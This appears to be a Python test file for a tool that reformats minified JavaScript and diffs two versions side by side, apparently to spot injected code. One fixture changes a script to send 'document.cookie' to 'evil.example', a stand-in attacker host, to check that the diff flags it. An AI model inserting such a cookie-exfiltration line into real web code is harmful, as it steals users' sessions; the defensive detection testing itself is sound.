"""Scripts are broken into lines without a change of what they say, however they are written, and are shown side by side."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from scans.diff import text

PIECES = [
    "{",
    "}",
    "(",
    ")",
    "[",
    "]",
    ";",
    ",",
    "a",
    "return",
    "/",
    "/x/g",
    '"s;{"',
    "'",
    '"',
    "`t${",
    "`",
    "//c;\n",
    "/*",
    "*/",
    "\\",
    "\n",
    " ",
    "=>",
    "1.5",
    "+",
    ":",
    "ä",
]
SCRIPTS = st.lists(st.sampled_from(PIECES), max_size=40).map("".join)
# Without slashes of which nobody can say whether they divide.
SOUND_SCRIPTS = st.lists(st.sampled_from([piece for piece in PIECES if piece not in ("/", "*/", "\\")]), max_size=40).map("".join)


def tokens(script: str) -> list[str]:
    return [found for kind, found in text._tokens(script) if kind != "space"]


@pytest.mark.parametrize(
    ("script", "lines"),
    [
        ("a();b();", ["a();", "b();"]),
        ("function f(a,b){return a+b}", ["function f(a,b) {", "  return a+b", "}"]),
        ("if(a){b()}else{c()}", ["if(a) {", "  b()", "} else {", "  c()", "}"]),
        ("for(var i=0;i<3;i++)x(i);", ["for(var i=0;i<3;i++)x(i);"]),
        ("var o={a:1,b:{}};", ["var o={", "  a:1,", "  b:{}", "};"]),
        ("f(function(){g()},1)", ["f(function() {", "  g()", "},1)"]),
        ("var a=1,b=[1,2];", ["var a=1,", "b=[1,2];"]),
        ("a = 1\nb = 2", ["a = 1", "b = 2"]),
        ("a()\n\n\n\n  b()", ["a()", "b()"]),
        ("{\n}", ["{}"]),
        ("(()=>{a})()", ["(()=> {", "  a", "})()"]),
        ("x=[1,2,3,4,5,6,7]", ["x=[", *(f"  {number}," for number in range(1, 7)), "  7", "]"]),
        ("", []),
    ],
)
def test_lines_are_broken_at_braces_semicolons_and_the_commas_of_lists(script, lines):
    assert [line for line in text.beautify(script).split("\n") if line] == lines


@pytest.mark.parametrize(
    "whole",
    [
        '"a;{b},c"',
        "'it\\'s;{'",
        "`a;${ {b:1}.b + `c${d}}` };{`",
        "/[/;{]+\\/;/gi",
        "/* a;{b} */",
        "`\n two;\n lines`",
    ],
)
def test_strings_templates_expressions_and_comments_stay_as_they_are(whole):
    assert f"x={whole}" in text.beautify(f"var y=1;x={whole};z()")


def test_a_division_is_no_regular_expression():
    assert text.beautify("a=b/c;d=e/f;").split("\n") == ["a=b/c;", "d=e/f;"]


def test_a_comment_to_the_end_of_the_line_ends_with_it():
    assert text.beautify("a // b;c\nd").split("\n") == ["a // b;c", "d"]


@given(SCRIPTS)
def test_nothing_is_lost_and_nothing_added_but_white_space(script):
    assert "".join(text.beautify(script).split()) == "".join(script.split())


@given(SOUND_SCRIPTS)
def test_the_tokens_are_the_same_afterwards(script):
    assert [token.split() for token in tokens(text.beautify(script))] == [token.split() for token in tokens(script)]


@given(SCRIPTS)
def test_every_sign_of_a_script_is_in_one_token(script):
    assert "".join(found for _, found in text._tokens(script)) == script


@pytest.mark.parametrize("piece", ["{", "(", "[", "=/[", "`${", '"', "/*", "/\\", "<", ",", "a b "])
def test_hostile_scripts_are_read_once(piece):
    script = piece * (400_000 // len(piece))
    assert "".join(text.beautify(script).split()) == "".join(script.split())


def test_what_lies_beyond_the_limit_is_left_as_it_came():
    script = "a;" * (text.LONGEST // 2) + "b;c;d"
    assert text.beautify(script).endswith("b;c;d")


def test_two_minified_scripts_stand_side_by_side():
    before = "!function(){var a=1;send('https://a.example');b(a)}();"
    found = text.compare(before, before.replace("send('https://a.example')", "send('https://evil.example',document.cookie)"))
    [changed] = [row for row in found if row.kind == "changed"]
    assert changed.before == "  send('https://a.example');"
    assert changed.after == "  send('https://evil.example',document.cookie);"
    assert "evil" in "".join(part.text for part in changed.after_parts if part.changed)


def test_line_breaks_alone_are_no_change():
    assert text.compare("a();b({c:1})", "a();\n\nb({\n    c:1\n})") == []


def test_code_that_was_added_stands_alone():
    found = text.compare("a();b();", "a();fetch('https://x.example');b();")
    assert [(row.kind, row.after) for row in found if row.kind != "same"] == [("added", "fetch('https://x.example');")]
